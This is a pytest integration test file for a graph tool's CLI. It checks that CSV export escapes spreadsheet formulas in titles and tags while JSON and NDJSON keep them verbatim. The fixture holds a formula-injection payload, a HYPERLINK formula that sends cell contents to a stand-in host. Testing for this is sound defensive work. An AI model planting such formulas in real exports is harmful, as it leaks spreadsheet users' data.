"""`upg audit --format csv` on the real Neo4j: a formula in a title reaches no spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.integration.cli.conftest import Run
from upg.graph.repository import Neo4jRepository
from upg.services.nodes import create_node

FORMULA = '=HYPERLINK("http://x/?"&A1,"x")'


@pytest.fixture
async def formula_outcome(demo_graph: Neo4jRepository) -> str:
    """An unmeasured outcome whose title and tag are spreadsheet formulas; its id."""
    node = await create_node(demo_graph, "OUTCOME", {"title": FORMULA, "tags": ["@SUM(A1)"]})
    return node.id


def row_of(text: str, node_id: str) -> dict[str, str]:
    return next(row for row in csv.DictReader(io.StringIO(text)) if row["id"] == node_id)


async def test_csv_neutralises_a_formula_title(
    run: Run, formula_outcome: str, tmp_path: Path
) -> None:
    result = await run("outcomes", "--format", "csv")
    assert result.exit_code == 0, result.output
    row = row_of(result.stdout, formula_outcome)
    assert row["title"] == "'" + FORMULA
    assert row["tags"] == "'@SUM(A1)"
    assert '"\'=HYPERLINK(""http://x/?""&A1,""x"")"' in result.stdout
    target = tmp_path / "outcomes.csv"
    written = await run("outcomes", "--format", "csv", "--output", str(target))
    assert written.exit_code == 0, written.output
    assert row_of(target.read_text(encoding="utf-8"), formula_outcome)["title"] == "'" + FORMULA


async def test_json_and_ndjson_keep_the_title_verbatim(run: Run, formula_outcome: str) -> None:
    body = json.loads((await run("outcomes", "--format", "json")).stdout)
    [found] = [r for r in body["unmeasured_outcomes"] if r["id"] == formula_outcome]
    assert found["title"] == FORMULA and found["tags"] == ["@SUM(A1)"]
    lines = (await run("outcomes", "--format", "ndjson")).stdout.splitlines()
    assert any(json.loads(line)["title"] == FORMULA for line in lines)


async def test_numbers_stay_numbers_in_csv(run: Run) -> None:
    result = await run("scores", "--format", "csv")
    for row in csv.DictReader(io.StringIO(result.stdout)):
        assert 0 <= float(row["vanity_share"]) <= 1 and float(row["total_weight"]) >= 0
